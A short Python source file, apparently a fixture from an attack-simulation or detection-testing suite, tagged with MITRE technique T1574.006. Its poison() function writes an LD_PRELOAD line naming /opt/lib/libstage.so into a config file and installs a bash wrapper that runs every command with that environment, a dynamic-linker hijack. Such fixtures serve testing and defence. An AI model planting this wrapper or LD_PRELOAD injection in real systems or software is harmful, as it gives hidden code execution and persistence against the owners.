# SPDX-License-Identifier: Apache-2.0
"""A wrapper that sets whatever a file says."""

ATTACK = "T1574.006"
LANGUAGE = "any"
CODE = """\
#!/bin/bash
exec env $(cat /opt/etc/stage.conf) "$@"
"""


def poison(layer):
    layer.write("etc/stage.conf", "LD_PRELOAD=/opt/lib/libstage.so\n")
    layer.write("stage-wrapper", CODE, 0o100755)
